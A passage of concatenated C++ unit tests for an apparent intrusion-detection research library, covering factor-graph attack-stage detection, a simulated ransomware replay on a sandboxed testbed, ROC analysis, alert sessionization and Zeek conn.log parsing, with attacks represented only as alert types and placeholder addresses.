  EXPECT_FALSE(read_params(util::replace_all(text, "v2", "v9")).has_value());
  // Truncated.
  EXPECT_FALSE(read_params(text.substr(0, text.size() / 2)).has_value());
  // Shape mismatch.
  EXPECT_FALSE(read_params(util::replace_all(text, "stages 4", "stages 5")).has_value());
  // Garbage value.
  auto corrupted = text;
  const auto pos = corrupted.find("0x");
  corrupted.replace(pos, 2, "zz");
  EXPECT_FALSE(read_params(corrupted).has_value());
}

TEST(ParamsIo, NegativeInfinityRoundTrips) {
  // Laplace smoothing keeps everything finite, but a zero-count row in a
  // hand-built model yields -inf; the format must carry it.
  ModelParams params = trained();
  params.log_prior[0] = util::kLogZero;
  const auto back = read_params(write_params(params));
  ASSERT_TRUE(back.has_value());
  EXPECT_EQ(back->log_prior[0], util::kLogZero);
}

}  // namespace
}  // namespace at::fg
