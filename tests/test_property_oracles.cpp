// Cross-implementation oracle tests: wherever the library has a fast path
// and a reference path, the two must agree on randomized inputs.
//   * Barnes-Hut repulsion vs brute-force O(n^2) forces
//   * discrete-event engine vs a sorted-list reference executor
//   * ScanFilter streaming vs an offline window dedup
//   * corpus statistics invariant under repetition scale

#include <gtest/gtest.h>

#include <algorithm>
#include <cmath>

#include "incidents/annotate.hpp"
#include "incidents/generator.hpp"
#include "sim/engine.hpp"
#include "viz/layout.hpp"

namespace at {
namespace {

// --- Barnes-Hut vs brute force ------------------------------------------
//
// run_layout with theta=0 must degenerate to (near-)exact n-body
// repulsion. We compare one-iteration displacements between theta=0 and a
// hand-rolled brute-force integrator on identical initial placements.

class LayoutOracle : public ::testing::TestWithParam<int> {};

TEST_P(LayoutOracle, ThetaZeroMatchesBruteForce) {
  util::Rng rng(static_cast<std::uint64_t>(GetParam()) * 1009 + 5);
  // Random small graph.
  viz::Graph graph;
  const std::size_t n = 20;
  std::vector<std::uint32_t> ids;
  for (std::size_t i = 0; i < n; ++i) {
    ids.push_back(graph.node_for(net::Ipv4(10, 0, static_cast<std::uint8_t>(i >> 8),
                                           static_cast<std::uint8_t>(i & 0xff)),
                                 viz::NodeRole::kLegitimate));
  }
  for (std::size_t i = 0; i < n; ++i) {
    const auto j = static_cast<std::size_t>(rng.uniform_int(0, static_cast<std::int64_t>(n) - 1));
    if (ids[i] != ids[j]) graph.add_edge(ids[i], ids[j]);
  }

  viz::LayoutOptions options;
  options.iterations = 1;
  options.theta = 0.0;  // quadtree opens every cell -> exact pairwise sums
  options.seed = 77;
  auto bh_graph = graph;
  viz::run_layout(bh_graph, options);

  // Brute-force reference: same seed -> same initial placement; replicate
  // one Fruchterman-Reingold step exactly.
  auto ref_graph = graph;
  {
    const double side = std::sqrt(options.area);
    const double k = std::sqrt(options.area / static_cast<double>(n));
    const double k2 = k * k;
    util::Rng placement(options.seed);
    auto& nodes = ref_graph.nodes();
    for (auto& node : nodes) {
      node.x = placement.uniform(0.0, side);
      node.y = placement.uniform(0.0, side);
    }
    std::vector<double> fx(n, 0.0);
    std::vector<double> fy(n, 0.0);
    for (std::size_t i = 0; i < n; ++i) {
      for (std::size_t j = 0; j < n; ++j) {
        if (i == j) continue;
        const double dx = nodes[i].x - nodes[j].x;
        const double dy = nodes[i].y - nodes[j].y;
        const double d2 = dx * dx + dy * dy + 1e-9;
        const double force = k2 / d2;
        fx[i] += dx * force;
        fy[i] += dy * force;
      }
    }
    for (const auto& edge : ref_graph.edges()) {
      const double dx = nodes[edge.dst].x - nodes[edge.src].x;
      const double dy = nodes[edge.dst].y - nodes[edge.src].y;
      const double dist = std::sqrt(dx * dx + dy * dy) + 1e-9;
      const double force = dist / k;
      fx[edge.src] += dx * force;
      fy[edge.src] += dy * force;
      fx[edge.dst] -= dx * force;
      fy[edge.dst] -= dy * force;
    }
    const double step = options.initial_step * side;
    for (std::size_t i = 0; i < n; ++i) {
      const double mag = std::sqrt(fx[i] * fx[i] + fy[i] * fy[i]) + 1e-12;
      const double move = std::min(mag, step);
      nodes[i].x += fx[i] / mag * move;
      nodes[i].y += fy[i] / mag * move;
    }
  }

  // Coincident-leaf aggregation makes BH approximate even at theta=0 only
  // for exactly-overlapping points, which random placement avoids; the
  // positions must agree tightly.
  for (std::size_t i = 0; i < n; ++i) {
    EXPECT_NEAR(bh_graph.nodes()[i].x, ref_graph.nodes()[i].x, 1e-6) << "node " << i;
    EXPECT_NEAR(bh_graph.nodes()[i].y, ref_graph.nodes()[i].y, 1e-6) << "node " << i;
  }
}

INSTANTIATE_TEST_SUITE_P(Random, LayoutOracle, ::testing::Range(0, 8));

// --- engine vs sorted reference -----------------------------------------

TEST(EngineOracle, RandomScheduleMatchesSortedReference) {
  util::Rng rng(31337);
  for (int round = 0; round < 10; ++round) {
    std::vector<std::pair<util::SimTime, int>> jobs;
    for (int i = 0; i < 200; ++i) {
      jobs.emplace_back(rng.uniform_int(0, 50), i);
    }
    // Reference: stable sort by time (ties keep submission order).
    auto expected = jobs;
    std::stable_sort(expected.begin(), expected.end(),
                     [](const auto& a, const auto& b) { return a.first < b.first; });

    sim::Engine engine;
    std::vector<int> order;
    for (const auto& [when, id] : jobs) {
      engine.schedule_at(when, [&order, id = id](sim::Engine&) { order.push_back(id); });
    }
    engine.run();
    ASSERT_EQ(order.size(), expected.size());
    for (std::size_t i = 0; i < order.size(); ++i) {
      EXPECT_EQ(order[i], expected[i].second) << "position " << i;
    }
  }
}

TEST(EngineOracle, CancellationUnderStress) {
  util::Rng rng(991);
  sim::Engine engine;
  std::vector<sim::EventId> ids;
  int fired = 0;
  for (int i = 0; i < 500; ++i) {
    ids.push_back(engine.schedule_at(rng.uniform_int(0, 100),
                                     [&fired](sim::Engine&) { ++fired; }));
  }
  std::size_t cancelled = 0;
  for (std::size_t i = 0; i < ids.size(); i += 3) {
    if (engine.cancel(ids[i])) ++cancelled;
  }
  engine.run();
  EXPECT_EQ(static_cast<std::size_t>(fired), ids.size() - cancelled);
  EXPECT_EQ(engine.pending(), 0u);
}

// --- streaming scan filter vs offline dedup ------------------------------

TEST(FilterOracle, StreamingMatchesOfflineWindowDedup) {
  util::Rng rng(4242);
  std::vector<alerts::Alert> stream;
  util::SimTime t = 0;
  for (int i = 0; i < 2000; ++i) {
    alerts::Alert alert;
    t += rng.uniform_int(1, 400);
    alert.ts = t;
    alert.type = rng.bernoulli(0.7) ? alerts::AlertType::kPortScan
                                    : alerts::AlertType::kSshBruteforce;
    alert.src = net::Ipv4(9, 9, 9, static_cast<std::uint8_t>(rng.uniform_int(1, 4)));
    stream.push_back(alert);
  }
  const util::SimTime window = 1000;

  incidents::ScanFilter filter(window);
  std::vector<bool> streaming;
  for (const auto& alert : stream) streaming.push_back(filter.keep(alert));

  // Offline reference: per (src, type), keep an alert iff the previous
  // *kept* alert of that key is >= window older.
  std::unordered_map<std::uint64_t, util::SimTime> last;
  for (std::size_t i = 0; i < stream.size(); ++i) {
    const auto& alert = stream[i];
    const std::uint64_t key =
        (static_cast<std::uint64_t>(alert.src->value()) << 8) ^
        static_cast<std::uint64_t>(alert.type);
    const auto it = last.find(key);
    const bool keep = it == last.end() || alert.ts - it->second >= window;
    if (keep) last[key] = alert.ts;
    EXPECT_EQ(streaming[i], keep) << "alert " << i;
  }
}

// --- corpus invariants under the repetition-scale knob --------------------

class ScaleInvariance : public ::testing::TestWithParam<double> {};

TEST_P(ScaleInvariance, StructuralStatsIndependentOfRepetitionScale) {
  incidents::CorpusConfig config;
  config.repetition_scale = GetParam();
  const auto corpus = incidents::CorpusGenerator(config).generate();
  // Repetition volume changes; the structural calibration must not.
  EXPECT_EQ(corpus.stats.incidents, 228u);
  EXPECT_EQ(corpus.stats.motif_incidents, 137u);
  EXPECT_EQ(corpus.stats.critical_occurrences, 98u);
  // Core sequences identical at any scale (same seed, forked streams).
  incidents::CorpusConfig full = config;
  full.repetition_scale = 0.0;
  const auto skeleton = incidents::CorpusGenerator(full).generate();
  ASSERT_EQ(skeleton.incidents.size(), corpus.incidents.size());
}

INSTANTIATE_TEST_SUITE_P(Scales, ScaleInvariance, ::testing::Values(0.0, 0.01, 0.1));

}  // namespace
}  // namespace at
