// End-to-end integration: the Section V ransomware case study replayed on
// the full testbed, background-noise scenarios, and failure injection
// (tampered monitors, blocked attackers).

#include <gtest/gtest.h>

#include "replay/background.hpp"
#include "replay/ransomware.hpp"

namespace at::replay {
namespace {

const incidents::Corpus& training() {
  static const incidents::Corpus corpus = [] {
    incidents::CorpusConfig config;
    config.repetition_scale = 0.02;
    return incidents::CorpusGenerator(config).generate();
  }();
  return corpus;
}

struct ReplayFixture : public ::testing::Test {
  void SetUp() override {
    bed = std::make_unique<testbed::Testbed>(testbed::TestbedConfig{}, training());
    bed->deploy(0);
  }
  std::unique_ptr<testbed::Testbed> bed;
};

TEST_F(ReplayFixture, RansomwareIsPreemptedTwelveDaysEarly) {
  RansomwareScenario ransomware;
  std::vector<Scenario*> scenarios{&ransomware};
  const auto report = run_scenarios(*bed, scenarios, 0);
  EXPECT_GT(report.events_executed, 0u);

  // The factor-graph model pages the operators...
  const auto note = first_notification_after(*bed, 0, "factor-graph");
  ASSERT_TRUE(note.has_value());
  // ...after the attack begins but before the matching production wave.
  EXPECT_GE(note->ts, ransomware.entry_time());
  EXPECT_LT(note->ts, ransomware.second_wave_time());
  // The paper's headline: the warning lands ~12 days before the repeat.
  const double lead_days =
      static_cast<double>(ransomware.second_wave_time() - note->ts) / util::kDay;
  EXPECT_NEAR(lead_days, 12.0, 0.2);
}

TEST_F(ReplayFixture, DetectionPrecedesLateralMovement) {
  RansomwareScenario ransomware;
  std::vector<Scenario*> scenarios{&ransomware};
  run_scenarios(*bed, scenarios, 0);
  const auto note = first_notification_after(*bed, 0, "factor-graph");
  ASSERT_TRUE(note.has_value());
  // The first page is about the entry instance, within minutes of entry —
  // before the worm finishes spreading across the federation.
  EXPECT_EQ(note->entity, "host:pg-0");
  EXPECT_LT(note->ts, ransomware.entry_time() + util::kHour);
}

TEST_F(ReplayFixture, LateralMovementSpreadsRecursively) {
  RansomwareScenario ransomware;
  std::vector<Scenario*> scenarios{&ransomware};
  run_scenarios(*bed, scenarios, 0);
  // Fig 5: from patient zero the infection reaches every federated peer.
  EXPECT_EQ(ransomware.compromised().size(), 16u);
  const auto& by_depth = ransomware.spread_by_depth();
  ASSERT_GE(by_depth.size(), 2u);
  EXPECT_EQ(by_depth[0], 1u);       // patient zero
  EXPECT_GT(by_depth[1], 0u);       // first-hop victims
  std::size_t total = 0;
  for (const auto count : by_depth) total += count;
  EXPECT_EQ(total, 16u);
}

TEST_F(ReplayFixture, SandboxContainsTheC2Traffic) {
  RansomwareScenario ransomware;
  std::vector<Scenario*> scenarios{&ransomware};
  run_scenarios(*bed, scenarios, 0);
  // Every beacon to the C2 server was dropped at the egress sandbox...
  EXPECT_GT(bed->sandbox().dropped(), 0u);
  for (const auto& escape : bed->sandbox().escape_attempts()) {
    EXPECT_EQ(escape.dst, ransomware.config().c2_server);
  }
  // ...yet Zeek still observed the attempts (that is what the model used).
  EXPECT_GT(bed->zeek().flows_seen(), 0u);
}

TEST_F(ReplayFixture, CorrelatorDedupsAcrossMonitors) {
  // The lo_export drop is seen by both osquery (process event) and auditd
  // (execve); the correlator forwards one alert per event.
  RansomwareScenario ransomware;
  std::vector<Scenario*> scenarios{&ransomware};
  run_scenarios(*bed, scenarios, 0);
  EXPECT_GT(bed->correlator().merged(), 0u);
  EXPECT_EQ(bed->correlator().received(),
            bed->correlator().forwarded() + bed->correlator().merged());
  // Dedup must not have cost us the detection.
  EXPECT_TRUE(first_notification_after(*bed, 0, "factor-graph").has_value());
}

TEST_F(ReplayFixture, PayloadArtifactsAreCaptured) {
  RansomwareScenario ransomware;
  std::vector<Scenario*> scenarios{&ransomware};
  run_scenarios(*bed, scenarios, 0);
  // /tmp/kp dropped on every compromised instance's disk.
  std::size_t drops = 0;
  for (const auto& pg : bed->postgres()) {
    drops += pg->files_on_disk().size();
  }
  EXPECT_EQ(drops, 16u);
  // Compromised instances were flagged for capture-and-recycle.
  EXPECT_GT(bed->vms().tick(bed->engine().now() + 1), 0u);
}

TEST_F(ReplayFixture, BackgroundNoiseAloneStaysQuiet) {
  MassScanScenario scan;
  LegitTrafficScenario legit;
  BruteforceScenario brute;
  std::vector<Scenario*> scenarios{&scan, &legit, &brute};
  const auto report = run_scenarios(*bed, scenarios, 0);
  EXPECT_GT(report.events_executed, 1000u);
  // The pipeline must not page operators for scans/bruteforce/legit
  // traffic (Remark 2: those alerts have a high false-positive rate).
  EXPECT_EQ(bed->pipeline().notifications().size(), 0u);
  // But the activity was seen and filtered, not ignored.
  EXPECT_GT(bed->pipeline().alerts_in(), 0u);
  EXPECT_GT(bed->scan_recorder().total_probes(), 1000u);
}

TEST_F(ReplayFixture, DetectionSurvivesBackgroundNoise) {
  RansomwareScenario ransomware;
  MassScanScenario scan;
  LegitTrafficScenario legit;
  std::vector<Scenario*> scenarios{&ransomware, &scan, &legit};
  run_scenarios(*bed, scenarios, 0);
  const auto note = first_notification_after(*bed, 0, "factor-graph");
  ASSERT_TRUE(note.has_value());
  EXPECT_LT(note->ts, ransomware.second_wave_time());
  // No notification fingers the legitimate clients (17.32.0.0/16 block) or
  // pages for a pure scanner entity.
  for (const auto& n : bed->pipeline().notifications()) {
    EXPECT_EQ(n.entity.find("ip:17.32."), std::string::npos) << n.entity;
  }
}

TEST_F(ReplayFixture, FailureInjectionTamperedOsquery) {
  // The attacker disables osquery on the entry host. Per the paper's
  // defender model, *network* monitors still see the activity, so the
  // attack is still caught — later, via the C2 beacons.
  bed->osquery().tamper("pg-0");
  RansomwareScenario ransomware;
  std::vector<Scenario*> scenarios{&ransomware};
  run_scenarios(*bed, scenarios, 0);
  EXPECT_GT(bed->osquery().suppressed(), 0u);
  const auto note = first_notification_after(*bed, 0);
  ASSERT_TRUE(note.has_value()) << "redundant monitors must still catch the attack";
  EXPECT_LT(note->ts, ransomware.second_wave_time());
}

TEST_F(ReplayFixture, BlockedScannerTrafficIsDropped) {
  // If the BHR already blocks a mass scanner's source, none of its probes
  // reach the monitors or the scan recorder.
  MassScanScenario scan;
  bed->router().block(scan.config().scanner, 0, 0, "threat intel", "operator");
  std::vector<Scenario*> scenarios{&scan};
  run_scenarios(*bed, scenarios, 0);
  EXPECT_EQ(bed->router().dropped_flows(), scan.config().probes);
  EXPECT_EQ(bed->scan_recorder().total_probes(), 0u);
  EXPECT_EQ(bed->zeek().flows_seen(), 0u);
}

TEST_F(ReplayFixture, RuleDetectorAlsoFiresOnRansomware) {
  RansomwareScenario ransomware;
  std::vector<Scenario*> scenarios{&ransomware};
  run_scenarios(*bed, scenarios, 0);
  // The pipeline runs both detector families; the rule-based one matches a
  // trained signature on at least one compromised host.
  const auto note = first_notification_after(*bed, 0, "rule-based");
  EXPECT_TRUE(note.has_value());
}

TEST_F(ReplayFixture, PipelineBlocksViaBhrOnDetection) {
  RansomwareScenario ransomware;
  std::vector<Scenario*> scenarios{&ransomware};
  run_scenarios(*bed, scenarios, 0);
  // At least one notification carried a source address, triggering the
  // programmable BHR response.
  bool any_block = false;
  for (const auto& call : bed->router().audit_log()) {
    if (call.method == "block" && call.client == "attacktagger-pipeline") {
      any_block = true;
    }
  }
  EXPECT_TRUE(any_block);
}

TEST(ScenarioApi, UndeployedTestbedIsHandled) {
  testbed::Testbed bed(testbed::TestbedConfig{}, training());
  // No deploy(): scenarios must not crash, just no-op.
  RansomwareScenario ransomware;
  BruteforceScenario brute;
  std::vector<Scenario*> scenarios{&ransomware, &brute};
  const auto report = run_scenarios(bed, scenarios, 0);
  EXPECT_EQ(report.notifications, 0u);
}

}  // namespace
}  // namespace at::replay
