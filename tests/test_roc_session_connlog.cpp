// ROC analysis, session-keyed detection, and conn.log serialization.

#include <gtest/gtest.h>

#include "detect/roc.hpp"
#include "detect/session_pipeline.hpp"
#include "net/connlog.hpp"
#include "viz/fig1.hpp"

namespace at {
namespace {

const incidents::Corpus& corpus() {
  static const incidents::Corpus c = [] {
    incidents::CorpusConfig config;
    config.repetition_scale = 0.02;
    return incidents::CorpusGenerator(config).generate();
  }();
  return c;
}

// --- ROC ---

TEST(RocTest, CurveShapeAndAuc) {
  const auto split = detect::split_corpus(corpus());
  const auto params = fg::learn_params(split.train);
  std::vector<detect::Stream> attacks;
  for (const auto& incident : split.test) attacks.push_back(detect::attack_stream(incident));
  incidents::DailyNoiseModel noise;
  const auto benign = detect::benign_streams(noise, 0, 20, 400);

  const auto curve = detect::roc_factor_graph(params, attacks, benign, 25);
  ASSERT_EQ(curve.points.size(), 26u);
  // TPR is non-increasing as the threshold rises; rates live in [0,1].
  for (std::size_t i = 0; i < curve.points.size(); ++i) {
    EXPECT_GE(curve.points[i].tpr, 0.0);
    EXPECT_LE(curve.points[i].tpr, 1.0);
    EXPECT_GE(curve.points[i].fpr, 0.0);
    EXPECT_LE(curve.points[i].fpr, 1.0);
    if (i > 0) {
      EXPECT_LE(curve.points[i].tpr, curve.points[i - 1].tpr + 1e-12);
      EXPECT_LE(curve.points[i].fpr, curve.points[i - 1].fpr + 1e-12);
    }
  }
  // Threshold 0 fires on everything.
  EXPECT_DOUBLE_EQ(curve.points.front().tpr, 1.0);
  EXPECT_DOUBLE_EQ(curve.points.front().fpr, 1.0);
  // The trained model separates attack from benign almost perfectly.
  EXPECT_GT(curve.auc, 0.95);
}

TEST(RocTest, UntrainedModelIsNoBetterThanChanceOnItsOwnScores) {
  // Degenerate uniform model: scores collapse, AUC ~<= chance band.
  incidents::Corpus empty;
  const auto params = fg::learn_params(empty);
  const auto split = detect::split_corpus(corpus());
  std::vector<detect::Stream> attacks;
  for (std::size_t i = 0; i < 20; ++i) {
    attacks.push_back(detect::attack_stream(split.test[i]));
  }
  incidents::DailyNoiseModel noise;
  const auto benign = detect::benign_streams(noise, 0, 20, 200);
  const auto curve = detect::roc_factor_graph(params, attacks, benign, 25);
  EXPECT_LT(curve.auc, 0.7);
}

TEST(RocTest, MaxScoreIsAPosterior) {
  const auto params = fg::learn_params(corpus());
  const auto stream = detect::attack_stream(corpus().incidents[0]);
  const double score = detect::max_posterior_score(params, stream);
  EXPECT_GE(score, 0.0);
  EXPECT_LE(score, 1.0);
}

// --- session pipeline ---

TEST(SessionPipelineTest, AccountHoppingAcrossHostsIsOneDetection) {
  const auto params = fg::learn_params(corpus());
  detect::SessionPipeline pipeline([&params] {
    return std::make_unique<detect::FactorGraphDetector>(params, 0.75);
  });
  // The motif spread across three hosts, all under one stolen account —
  // host keying would fragment this; session keying must not.
  const alerts::AlertType steps[] = {alerts::AlertType::kDownloadSensitive,
                                     alerts::AlertType::kCompileSource,
                                     alerts::AlertType::kLogTampering};
  const char* hosts[] = {"a", "b", "c"};
  std::optional<detect::SessionDetection> hit;
  for (int i = 0; i < 3; ++i) {
    alerts::Alert alert;
    alert.ts = i * 100;
    alert.type = steps[i];
    alert.host = hosts[i];
    alert.user = "stolen";
    alert.src = net::Ipv4(9, 9, 9, 9);
    if (auto detection = pipeline.on_alert(alert)) hit = detection;
  }
  ASSERT_TRUE(hit.has_value());
  EXPECT_EQ(hit->account, "stolen");
  const auto* session = pipeline.sessionizer().find(hit->session_id);
  ASSERT_NE(session, nullptr);
  EXPECT_EQ(session->hosts.size(), 3u);
  EXPECT_EQ(pipeline.detections().size(), 1u);
}

TEST(SessionPipelineTest, SeparateAccountsSeparateDetectors) {
  const auto params = fg::learn_params(corpus());
  detect::SessionPipeline pipeline([&params] {
    return std::make_unique<detect::FactorGraphDetector>(params, 0.75);
  });
  // Each account shows only inconclusive probing: neither session fires,
  // and the two accounts are tracked independently.
  for (int i = 0; i < 2; ++i) {
    alerts::Alert alert;
    alert.ts = i;
    alert.type = i == 0 ? alerts::AlertType::kPortScan : alerts::AlertType::kSshBruteforce;
    alert.host = "h";
    // Not a ternary char* pick: that form trips a GCC 12 -O3
    // -Wmaybe-uninitialized false positive inside the string SSO buffer.
    if (i == 0) {
      alert.user = "u1";
    } else {
      alert.user = "u2";
    }
    EXPECT_FALSE(pipeline.on_alert(alert).has_value());
  }
  EXPECT_EQ(pipeline.sessionizer().sessions().size(), 2u);
}

TEST(SessionPipelineTest, FiresOncePerSession) {
  const auto params = fg::learn_params(corpus());
  detect::SessionPipeline pipeline([&params] {
    return std::make_unique<detect::FactorGraphDetector>(params, 0.5);
  });
  alerts::Alert alert;
  alert.user = "u";
  alert.host = "h";
  int fires = 0;
  for (int i = 0; i < 10; ++i) {
    alert.ts = i;
    alert.type = alerts::AlertType::kDownloadSensitive;
    if (pipeline.on_alert(alert)) ++fires;
  }
  EXPECT_EQ(fires, 1);
}

// --- conn.log ---

TEST(ConnLog, RoundTrip) {
  net::Flow flow;
  flow.ts = 1722470400;
  flow.src = net::Ipv4(103, 102, 47, 9);
  flow.src_port = 54321;
  flow.dst = net::Ipv4(141, 142, 9, 9);
  flow.dst_port = 5432;
  flow.proto = net::Proto::kTcp;
  flow.state = net::ConnState::kAttempt;
  flow.bytes_out = 60;
  const auto parsed = net::parse_conn_line(net::to_conn_line(flow));
  ASSERT_TRUE(parsed.has_value());
  EXPECT_EQ(parsed->ts, flow.ts);
  EXPECT_EQ(parsed->src, flow.src);
  EXPECT_EQ(parsed->dst_port, flow.dst_port);
  EXPECT_EQ(parsed->state, flow.state);
  EXPECT_EQ(parsed->bytes_out, 60u);
}

TEST(ConnLog, RejectsMalformed) {
  EXPECT_FALSE(net::parse_conn_line("").has_value());
  EXPECT_FALSE(net::parse_conn_line("# comment").has_value());
  EXPECT_FALSE(net::parse_conn_line("1\t2\t3").has_value());
  EXPECT_FALSE(
      net::parse_conn_line("x\t1.1.1.1\t1\t2.2.2.2\t2\ttcp\tS0\t0\t0").has_value());
  EXPECT_FALSE(
      net::parse_conn_line("1\t1.1.1.1\t1\t2.2.2.2\t2\tquic\tS0\t0\t0").has_value());
  EXPECT_FALSE(
      net::parse_conn_line("1\t1.1.1.1\t1\t2.2.2.2\t2\ttcp\tXX\t0\t0").has_value());
}

TEST(ConnLog, Fig1FlowSampleRoundTrips) {
  viz::Fig1Config config;
  config.mass_scan_targets = 500;
  config.other_scanners = 4;
  config.other_scan_targets_total = 100;
  config.legit_pairs = 50;
  const auto data = viz::build_fig1(config);
  const auto text = net::write_conn_log(data.flows);
  const auto result = net::read_conn_log(text);
  EXPECT_EQ(result.malformed, 0u);
  ASSERT_EQ(result.flows.size(), data.flows.size());
  EXPECT_EQ(result.flows[17].src, data.flows[17].src);
  EXPECT_EQ(result.flows[17].ts, data.flows[17].ts);
}

}  // namespace
}  // namespace at
