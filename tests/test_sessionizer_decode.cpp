// Threat-model sessionization rules (Section III-B) and Viterbi stage
// decoding (the AttackTagger per-event forensic tagging).

#include <gtest/gtest.h>

#include "detect/sessionizer.hpp"
#include "fg/bp.hpp"
#include "fg/model.hpp"
#include "incidents/generator.hpp"

namespace at {
namespace {

using alerts::Alert;
using alerts::AlertType;
using alerts::AttackStage;

Alert mk(util::SimTime ts, AlertType type, const std::string& user,
         std::optional<net::Ipv4> src, const std::string& host) {
  Alert alert;
  alert.ts = ts;
  alert.type = type;
  alert.user = user;
  alert.src = src;
  alert.host = host;
  return alert;
}

TEST(Sessionizer, SameAccountLateralMovementIsOneAttack) {
  // Rule: an attacker moving laterally under the same account = 1 attack.
  detect::AttackSessionizer sessionizer;
  const net::Ipv4 attacker(9, 9, 9, 9);
  const auto s1 = sessionizer.ingest(mk(1, AlertType::kSshLateralMove, "evil", attacker, "a"));
  const auto s2 = sessionizer.ingest(mk(2, AlertType::kSshLateralMove, "evil", attacker, "b"));
  const auto s3 = sessionizer.ingest(mk(3, AlertType::kSshLateralMove, "evil", attacker, "c"));
  EXPECT_EQ(s1, s2);
  EXPECT_EQ(s2, s3);
  const auto* session = sessionizer.find(s1);
  ASSERT_NE(session, nullptr);
  EXPECT_EQ(session->hosts.size(), 3u);
  EXPECT_EQ(session->account, "evil");
}

TEST(Sessionizer, MultipleAttackersSameAccountIsOneAttack) {
  // Rule: multiple attackers using the same user account = 1 attack.
  detect::AttackSessionizer sessionizer;
  const auto s1 =
      sessionizer.ingest(mk(1, AlertType::kCredentialReuse, "ghost", net::Ipv4(1, 1, 1, 1), "h"));
  const auto s2 =
      sessionizer.ingest(mk(2, AlertType::kCredentialReuse, "ghost", net::Ipv4(2, 2, 2, 2), "h"));
  EXPECT_EQ(s1, s2);
  EXPECT_EQ(sessionizer.find(s1)->sources.size(), 2u);
}

TEST(Sessionizer, DifferentAccountsAreSeparateAttacks) {
  // Rule: one attacker using different user accounts = separate attacks.
  detect::AttackSessionizer sessionizer;
  const net::Ipv4 attacker(9, 9, 9, 9);
  const auto s1 =
      sessionizer.ingest(mk(1, AlertType::kCredentialReuse, "alice", attacker, "h"));
  const auto s2 =
      sessionizer.ingest(mk(2, AlertType::kCredentialReuse, "bob", attacker, "h"));
  EXPECT_NE(s1, s2);
  EXPECT_EQ(sessionizer.sessions().size(), 2u);
}

TEST(Sessionizer, AccountlessAlertsAttributeThroughKnownSource) {
  // Network alerts without an account attach to the session whose account
  // the source previously acted as.
  detect::AttackSessionizer sessionizer;
  const net::Ipv4 attacker(9, 9, 9, 9);
  const auto s1 =
      sessionizer.ingest(mk(1, AlertType::kGhostAccountLogin, "ghost", attacker, "h"));
  const auto s2 = sessionizer.ingest(mk(2, AlertType::kPortScan, "", attacker, "h2"));
  EXPECT_EQ(s1, s2);
}

TEST(Sessionizer, ProvisionalSourceSessionMergesIntoAccount) {
  // Probing precedes the login: the source-only session merges into the
  // account session once the account appears.
  detect::AttackSessionizer sessionizer;
  const net::Ipv4 attacker(9, 9, 9, 9);
  const auto s1 = sessionizer.ingest(mk(1, AlertType::kDbPortProbe, "", attacker, "pg-0"));
  const auto s2 =
      sessionizer.ingest(mk(2, AlertType::kDefaultPasswordLogin, "postgres", attacker, "pg-0"));
  EXPECT_NE(s1, s2);  // ids differ, but...
  const auto* account_session = sessionizer.find(s2);
  ASSERT_NE(account_session, nullptr);
  // ...the probe alert migrated into the account session.
  EXPECT_EQ(account_session->alerts.size(), 2u);
  EXPECT_TRUE(sessionizer.find(s1)->alerts.empty());
  // Later source-only alerts land in the account session directly.
  const auto s3 = sessionizer.ingest(mk(3, AlertType::kInternalScan, "", attacker, "pg-0"));
  EXPECT_EQ(s3, s2);
}

TEST(Sessionizer, HostLocalAlertsWithoutAttribution) {
  detect::AttackSessionizer sessionizer;
  const auto s1 = sessionizer.ingest(mk(1, AlertType::kFileDroppedTmp, "", std::nullopt, "h1"));
  const auto s2 = sessionizer.ingest(mk(2, AlertType::kFileDroppedTmp, "", std::nullopt, "h1"));
  const auto s3 = sessionizer.ingest(mk(3, AlertType::kFileDroppedTmp, "", std::nullopt, "h2"));
  EXPECT_EQ(s1, s2);
  EXPECT_NE(s1, s3);
}

TEST(Sessionizer, TimeSpanTracked) {
  detect::AttackSessionizer sessionizer;
  const net::Ipv4 attacker(9, 9, 9, 9);
  const auto id =
      sessionizer.ingest(mk(100, AlertType::kPortScan, "", attacker, "h"));
  sessionizer.ingest(mk(500, AlertType::kPortScan, "", attacker, "h"));
  const auto* session = sessionizer.find(id);
  EXPECT_EQ(session->first_ts, 100);
  EXPECT_EQ(session->last_ts, 500);
}

// --- Viterbi stage decoding ---

const fg::ModelParams& params() {
  static const fg::ModelParams p = [] {
    incidents::CorpusConfig config;
    config.repetition_scale = 0.02;
    return fg::learn_params(incidents::CorpusGenerator(config).generate());
  }();
  return p;
}

TEST(DecodeStages, EmptyAndSingle) {
  EXPECT_TRUE(fg::decode_stages(params(), {}).empty());
  const std::vector<AlertType> one = {AlertType::kLoginSuccess};
  EXPECT_EQ(fg::decode_stages(params(), one).size(), 1u);
}

TEST(DecodeStages, AttackSequenceTagsEscalation) {
  const std::vector<AlertType> attack = {
      AlertType::kPortScan, AlertType::kDownloadSensitive, AlertType::kCompileSource,
      AlertType::kLogTampering, AlertType::kPrivilegeEscalation};
  const auto stages = fg::decode_stages(params(), attack);
  ASSERT_EQ(stages.size(), attack.size());
  // The foothold alerts decode as an attack in progress, the critical
  // alert as compromised, and stages never regress along the chain.
  EXPECT_GE(stages[1], AttackStage::kSuspicious);
  EXPECT_GE(stages[2], AttackStage::kInProgress);
  EXPECT_EQ(stages[4], AttackStage::kCompromised);
  for (std::size_t i = 1; i < stages.size(); ++i) {
    EXPECT_GE(static_cast<int>(stages[i]), static_cast<int>(stages[i - 1]) - 1);
  }
}

TEST(DecodeStages, BenignSequenceStaysBenign) {
  const std::vector<AlertType> benign = {AlertType::kLoginSuccess, AlertType::kJobSubmitted,
                                         AlertType::kJobCompleted, AlertType::kLogout};
  const auto stages = fg::decode_stages(params(), benign);
  for (const auto stage : stages) {
    EXPECT_LE(stage, AttackStage::kSuspicious);
  }
}

class DecodeMatchesMaxProduct : public ::testing::TestWithParam<int> {};

TEST_P(DecodeMatchesMaxProduct, ViterbiEqualsMaxProductBp) {
  // decode_stages must find an assignment with the same joint score as
  // max-product BP on the equivalent chain factor graph.
  util::Rng rng(static_cast<std::uint64_t>(GetParam()) * 13 + 1);
  std::vector<AlertType> observed;
  const std::size_t n = 2 + static_cast<std::size_t>(rng.uniform_int(0, 6));
  for (std::size_t i = 0; i < n; ++i) {
    observed.push_back(static_cast<AlertType>(
        rng.uniform_int(0, static_cast<std::int64_t>(alerts::kNumAlertTypes) - 1)));
  }
  const auto graph = fg::build_chain(params(), observed);
  fg::BpOptions options;
  options.max_product = true;
  options.max_iterations = n + 4;
  const auto bp = fg::run_bp(graph, options);

  const auto decoded = fg::decode_stages(params(), observed);
  std::vector<std::size_t> as_assignment;
  for (const auto stage : decoded) as_assignment.push_back(static_cast<std::size_t>(stage));
  EXPECT_NEAR(graph.joint_log_score(as_assignment),
